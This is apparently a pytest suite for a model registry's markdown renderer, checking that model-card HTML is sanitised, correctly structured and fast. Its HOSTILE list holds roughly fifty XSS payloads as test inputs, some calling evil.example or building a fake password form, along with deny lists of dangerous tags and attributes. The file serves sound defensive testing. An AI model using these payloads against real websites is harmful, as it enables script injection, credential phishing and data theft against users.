import tarfile
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from registry.catalog.cards import parse_card
from registry.catalog.markdown import RENDER_MAX_CHARACTERS, Links, render, summarise

LINKS = Links(
    file=lambda path: f"/tarn/tarn-7b/blob/main/{path}",
    image=lambda path: f"/tarn/tarn-7b/raw/main/{path}" if path.endswith(".png") else None,
)
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "srcset",
    "poster",
    "data",
    "background",
    "xlink:href",
}


class Inspector(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def look(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def assert_harmless(html: str) -> None:
    found = look(html)
    forbidden = {
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "svg",
        "math",
        "base",
        "meta",
        "link",
    }
    assert not forbidden & set(found.tags)
    ids = [value for _, name, value in found.attributes if name == "id"]
    assert len(ids) == len(set(ids))
    for tag, name, value in found.attributes:
        assert not name.startswith("on")
        assert name != "style"
        if name == "id":
            assert value.startswith("card-")
        if name in URL_ATTRIBUTES:
            assert value.startswith(("https://", "http://", "mailto:", "#card-", "/tarn/tarn-7b/")), value
        if tag == "img" and name == "src":
            assert value.startswith("/tarn/tarn-7b/")
    for tag in found.tags:
        if tag == "a":
            assert 'rel="nofollow noopener ugc"' in html


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<input type=checkbox onclick=alert(1) checked>",
    "<textarea></textarea><script>alert(1)</script>",
    "<video src=https://evil.example/x poster=https://evil.example/y></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/settings/tokens'>x</a>",
    "<a href='../../../settings'>x</a>",
    "<a href='%2e%2e/%2e%2e/settings'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java&#10;script:alert(1)>)",
    "[x](data:text/html,x)",
    "[x](//evil.example)",
    "[x](..%2f..%2fsettings)",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[![x](https://evil.example/badge.svg)](https://evil.example)",
    "<img src='https://evil.example/x' srcset='https://evil.example/y 2x'>",
    "<a id=x name=y></a><a id=x></a><b id='content'>x</b>",
    "<h1 id='main'>x</h1><h1 id=main>y</h1>",
    "# x {#content}\n# x\n# x-1\n# x",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<a title='x' href='#\"><script>alert(1)</script>'>x</a>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "<table background=https://evil.example/x><tr><td background=javascript:alert(1)>x",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<div role=alert tabindex=5 class=btn aria-label=x>x</div>",
    "\N{RIGHT-TO-LEFT OVERRIDE}<a href='https://x.example'>x</a>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_come_out_harmless(text: str) -> None:
    assert_harmless(render(text, links=LINKS).html)


@given(st.lists(st.sampled_from(HOSTILE) | st.text("<>/\"'=`[]()!#&; ajsonerc\n", max_size=12), max_size=6))
def test_hostile_texts_come_out_harmless_in_any_mixture(parts: list[str]) -> None:
    assert_harmless(render("".join(parts), links=LINKS).html)


@given(st.text(max_size=300))
def test_any_text_is_rendered(text: str) -> None:
    assert_harmless(render(text, links=LINKS).html)
    assert "\n" not in summarise(text)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (
            "# One\n## Two\n# Three",
            '<h2 id="card-one">One</h2>\n<h3 id="card-two">Two</h3>\n<h2 id="card-three">Three</h2>\n',
        ),
        ("### A\n##### B\n### C", '<h2 id="card-a">A</h2>\n<h3 id="card-b">B</h3>\n<h2 id="card-c">C</h2>\n'),
        ("# A\n# A", '<h2 id="card-a">A</h2>\n<h2 id="card-a-1">A</h2>\n'),
        (
            "# Über `uns` & *mehr*",
            '<h2 id="card-über-uns--mehr">Über <code>uns</code> &amp; <em>mehr</em></h2>\n',
        ),
        ("<h1>Raw</h1>", '<h2 id="card-raw">Raw</h2>'),
        ("[x](#a-b)", '<p><a href="#card-a-b" rel="nofollow noopener ugc">x</a></p>\n'),
        (
            "[x](https://a.example/?b=1&c=2)",
            '<p><a href="https://a.example/?b=1&amp;c=2" rel="nofollow noopener ugc">x</a></p>\n',
        ),
        (
            "[x](./docs/a.md)",
            '<p><a href="/tarn/tarn-7b/blob/main/docs/a.md" rel="nofollow noopener ugc">x</a></p>\n',
        ),
        (
            "[x](blob/main/LICENSE)",
            '<p><a href="/tarn/tarn-7b/blob/main/LICENSE" rel="nofollow noopener ugc">x</a></p>\n',
        ),
        ("[x](/models)", "<p>x</p>\n"),
        ("![Alt](a.png)", '<p><img src="/tarn/tarn-7b/raw/main/a.png" alt="Alt" loading="lazy"></p>\n'),
        (
            "![Alt](a.gif)",
            '<p><a class="image" href="/tarn/tarn-7b/blob/main/a.gif" rel="nofollow noopener ugc">Image: Alt</a></p>\n',
        ),
        (
            "![Alt](https://a.example/b.png)",
            '<p><a class="image" href="https://a.example/b.png" rel="nofollow noopener ugc">Image: Alt (a.example)</a></p>\n',
        ),
        (
            "[![Badge](https://a.example/b.svg)](https://c.example)",
            '<p><a href="https://c.example" rel="nofollow noopener ugc"><span class="image">Image: Badge</span></a></p>\n',
        ),
        ("- [x] done\n- [ ] open", "<ul>\n<li>☑  done</li>\n<li>☐  open</li>\n</ul>\n"),
        ("~~a~~", "<p><s>a</s></p>\n"),
        ("a<br>b &amp; &lt;c&gt; &#8212;", "<p>a<br>b &amp; &lt;c&gt; —</p>\n"),
    ],
)
def test_ordinary_texts_are_rendered(text: str, html: str) -> None:
    assert render(text, links=LINKS).html == html


def test_tables_and_code_can_be_scrolled_by_keyboard() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |\n\n```py\nx = 1\n```\n").html
    assert '<div class="scroll" role="region" aria-label="Table 1" tabindex="0"><table>' in html
    assert '<pre tabindex="0"><code>x = 1' in html


def test_headings_never_skip_a_level() -> None:
    html = render("###### a\n# b\n#### c\n###### d\n## e", top_level=3).html
    levels = [int(tag[1]) for tag in look(html).tags if tag[0] == "h"]
    assert levels == [3, 3, 4, 5, 4]


def test_a_long_text_is_cut_and_says_so() -> None:
    assert render("x " * RENDER_MAX_CHARACTERS).cut
    assert not render("x").cut


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "![",
        "a**",
        "*a_",
        "`a``b",
        "> ",
        "- ",
        "<a ",
        "[a](",
        "&",
        "\\",
        "~~a",
        "<div>",
        "<b>",
        "[[a]",
        "# a\n",
        "|",
        "<p><a><table>",
        "<details><summary>",
    ],
)
def test_texts_made_to_be_slow_are_not(unit: str) -> None:
    text = (unit * RENDER_MAX_CHARACTERS)[: RENDER_MAX_CHARACTERS // 4]
    start = time.thread_time()
    assert_harmless(render(text, links=LINKS).html)
    # The slowest takes half a second of one core; what grows with the square takes minutes.
    assert time.thread_time() - start < 10


@pytest.mark.parametrize(
    ("text", "summary"),
    [
        (
            "# Title\n\n[![b](x)](y)\n\nThis is a model that does *things* with `code`.\n\nMore.",
            "This is a model that does things with code.",
        ),
        ("# Only\n\nShort.", ""),
        (
            "<div>raw html paragraph that is long</div>\n\nThe first real\nparagraph of it.",
            "The first real paragraph of it.",
        ),
        (
            "- a list item that is long enough to be one\n\nA paragraph after the list.",
            "A paragraph after the list.",
        ),
        ("", ""),
    ],
)
def test_the_summary_is_the_first_plain_paragraph(text: str, summary: str) -> None:
    assert summarise(text) == summary


def test_a_long_summary_ends_at_a_word() -> None:
    summary = summarise("word " * 100)
    assert len(summary) <= 240
    assert summary.endswith("word…")


@pytest.mark.shared
def test_every_real_card_is_rendered(shared: Path) -> None:
    cards = [path.read_bytes() for path in (shared / "model-cards").rglob("*.md")]
    with tarfile.open(shared / "model-cards" / "bulk" / "rail-and-gated-cards.tar.gz") as archive:
        cards += [opened.read() for member in archive if (opened := archive.extractfile(member)) is not None]
    for data in cards:
        card = parse_card(data)
        assert_harmless(render(card.body, links=LINKS).html)
        assert_harmless(render(card.gating.prompt or "", links=LINKS).html)
